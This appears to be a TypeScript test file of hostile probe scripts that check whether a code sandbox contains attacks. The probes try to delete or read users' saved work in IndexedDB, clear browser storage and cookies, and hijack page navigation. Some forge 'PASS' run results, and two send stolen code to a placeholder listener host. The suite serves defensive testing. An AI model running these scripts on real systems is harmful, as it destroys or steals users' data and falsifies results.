// The page around the sandbox: its storage (saved work and drafts live in IndexedDB), its window,
// its navigation, and the messages between the sandbox and the page.
import { NOTHING, NOTHING_OR_REFUSED, probe } from '../prelude';
import type { HostileCase } from '../types';

/** Opens IndexedDB `name` (script text): the database, or a string saying why not. */
const OPEN_DB = `
function openDb(idb, name) {
  return settle(new Promise((ok, no) => {
    const r = idb.open(name);
    r.onsuccess = () => ok(r.result);
    r.onerror = () => no(r.error);
  }));
}`;

export const PAGE_CASES: HostileCase[] = [
  {
    id: 'storage-indexeddb-delete',
    vector: 'clears and deletes the IndexedDB that holds saved work and drafts (issue 9)',
    files: probe(`${OPEN_DB}
const reached = [];
let idb;
try { idb = indexedDB; } catch {}
if (idb) {
  reached.push('indexedDB');
  try {
    const db = await openDb(idb, 'stepgraph');
    if (db && typeof db === 'object') {
      reached.push('open');
      db.transaction('work', 'readwrite').objectStore('work').clear();
      reached.push('clear');
    }
  } catch {}
  try { idb.deleteDatabase('stepgraph'); reached.push('delete'); } catch {}
}
export default report(reached);`),
    layer: 'compartment',
    also: ['page'],
    contained: NOTHING_OR_REFUSED,
  },
  {
    id: 'storage-indexeddb-read',
    vector: 'lists the origin’s databases and reads the saved work (another person’s code) out of IndexedDB',
    files: probe(`${OPEN_DB}
const reached = [];
const idb = globalThis.indexedDB;
if (idb) {
  reached.push('indexedDB');
  try { reached.push('databases:' + (await settle(idb.databases())).length); } catch {}
  try {
    const db = await openDb(idb, 'stepgraph');
    const all = await settle(new Promise((ok) => {
      const r = db.transaction('work').objectStore('work').getAll();
      r.onsuccess = () => ok(r.result);
    }));
    reached.push('read:' + all.length);
  } catch {}
}
export default report(reached);`),
    layer: 'compartment',
    also: ['page'],
    contained: NOTHING,
  },
  {
    id: 'storage-caches',
    vector: 'Cache Storage: lists, fills and deletes the origin’s caches',
    files: probe(`
const reached = [];
let c;
try { c = caches; } catch {}
if (c) {
  reached.push('caches');
  try { await settle(c.open('hostile')); reached.push('open'); } catch {}
  try { await settle(c.delete('hostile')); } catch {}
}
export default report(reached);`),
    layer: 'compartment',
    also: ['page'],
    contained: NOTHING_OR_REFUSED,
  },
  {
    id: 'storage-local-cookie',
    vector: 'localStorage, sessionStorage and document.cookie of the page',
    files: probe(`
const reached = [];
try { localStorage.clear(); reached.push('localStorage'); } catch {}
try { sessionStorage.clear(); reached.push('sessionStorage'); } catch {}
try { document.cookie = 'hostile=1'; reached.push('cookie'); } catch {}
try { if (globalThis.cookieStore) reached.push('cookieStore'); } catch {}
export default report(reached);`),
    layer: 'compartment',
    also: ['page'],
    contained: NOTHING_OR_REFUSED,
  },
  {
    id: 'storage-opfs',
    vector: 'the origin-private file system (`navigator.storage.getDirectory()`)',
    files: probe(`
const reached = [];
try {
  const dir = await settle(navigator.storage.getDirectory());
  if (dir && typeof dir === 'object') {
    reached.push('opfs');
    await settle(dir.getFileHandle('hostile', { create: true }));
  }
} catch {}
export default report(reached);`),
    layer: 'compartment',
    also: ['page'],
    contained: NOTHING_OR_REFUSED,
  },
  {
    id: 'storage-via-event-target',
    vector:
      'recovers the worker’s global through an event, then deletes saved work and sends it to the listener (issue 9)',
    files: probe(`${OPEN_DB}
const reached = [];
let G;
try { addEventListener('x', (e) => { G = e.currentTarget; }); dispatchEvent(new Event('x')); } catch {}
if (G) {
  reached.push(...hostIn(G));
  try {
    const db = await openDb(G.indexedDB, 'stepgraph');
    db.transaction('work', 'readwrite').objectStore('work').clear();
    reached.push('clear');
  } catch {}
  try { await settle(G.fetch('$LISTENER$/stolen', { method: 'POST', body: 'saved work' })); } catch {}
}
export default report(reached);`),
    layer: 'compartment',
    also: ['page'],
    contained: NOTHING_OR_REFUSED,
  },
  {
    id: 'page-parent-top-opener',
    vector: '`parent`, `top`, `opener`, `frames` and `frameElement` of the page',
    files: probe(`
const reached = [];
try { if (parent) reached.push('parent'); } catch {}
try { if (top) reached.push('top'); } catch {}
try { if (opener) reached.push('opener'); } catch {}
try { if (frames) reached.push('frames'); } catch {}
try { if (frameElement) reached.push('frameElement'); } catch {}
export default report(reached);`),
    layer: 'compartment',
    also: ['page'],
    contained: NOTHING_OR_REFUSED,
  },
  {
    id: 'page-navigation',
    vector: 'navigates the page or opens a window to the listener (`location`, `open`)',
    files: probe(`
const reached = [];
try { location.href = '$LISTENER$/navigate'; reached.push('location'); } catch {}
try { location.assign('$LISTENER$/assign'); reached.push('assign'); } catch {}
try { if (open('$LISTENER$/popup')) reached.push('open'); } catch {}
await sleep(50);
export default report(reached);`),
    layer: 'compartment',
    also: ['page'],
    contained: NOTHING_OR_REFUSED,
  },
  {
    id: 'protocol-forge-messages',
    vector: 'posts forged protocol messages (run/done, sandbox/ready, net/request, Comlink returns) to the page',
    files: probe(`
const reached = [];
const forged = [
  { type: 'sandbox/ready', isolated: true },
  { type: 'run/done', id: 'x', response: { ok: true, result: 'PASS' } },
  { type: 'net/request', run: 'x', id: 'x', request: { url: '$LISTENER$/forged' } },
  { id: 'x', type: 'RAW', value: { ok: true, result: 'PASS' } },
];
for (const send of [() => postMessage, () => globalThis.postMessage, () => self.postMessage]) {
  try {
    const post = send();
    if (typeof post !== 'function') continue;
    for (const m of forged) post(m);
    reached.push('postMessage');
  } catch {}
}
export default report(reached);`),
    layer: 'compartment',
    also: ['page'],
    contained: NOTHING_OR_REFUSED,
  },
  {
    id: 'protocol-hijack-next-run',
    vector: 'listens for the next run’s request to send its code away and answer it with a forged success (issue 9)',
    files: probe(`
const reached = [];
const steal = (e) => {
  try { globalThis.fetch('$LISTENER$/next-code', { method: 'POST', body: JSON.stringify(e.data) }); } catch {}
  try { postMessage({ type: 'run/done', id: e.data && e.data.id, response: { ok: true, result: 'PASS' } }); } catch {}
};
try { addEventListener('message', steal); reached.push('addEventListener'); } catch {}
try { onmessage = steal; if (typeof globalThis.onmessage === 'function') reached.push('onmessage'); } catch {}
export default report(reached);`),
    layer: 'compartment',
    also: ['page'],
    contained: NOTHING_OR_REFUSED,
  },
  {
    id: 'protocol-close-worker',
    vector: '`close()` ends the worker that runs scripts, so the next run never answers',
    files: probe(`
const reached = [];
try { close(); reached.push('close'); } catch {}
try { self.close(); reached.push('self.close'); } catch {}
export default report(reached);`),
    layer: 'compartment',
    also: ['page'],
    contained: NOTHING_OR_REFUSED,
  },
  {
    id: 'protocol-parent-port',
    vector: 'posts forged answers on the executor’s own channel (`worker_threads.parentPort`, `process.send`)',
    files: probe(`
const reached = [];
for (const g of [globalThis, globalThis.global]) {
  const p = g && g.process;
  if (!p) continue;
  try { p.getBuiltinModule('node:worker_threads').parentPort.postMessage({ ok: true, result: 'PASS' }); reached.push('parentPort'); } catch {}
  try { p.send({ ok: true, result: 'PASS' }); reached.push('send'); } catch {}
}
export default report(reached);`),
    layer: 'compartment',
    also: ['process'],
    contained: NOTHING,
  },
];
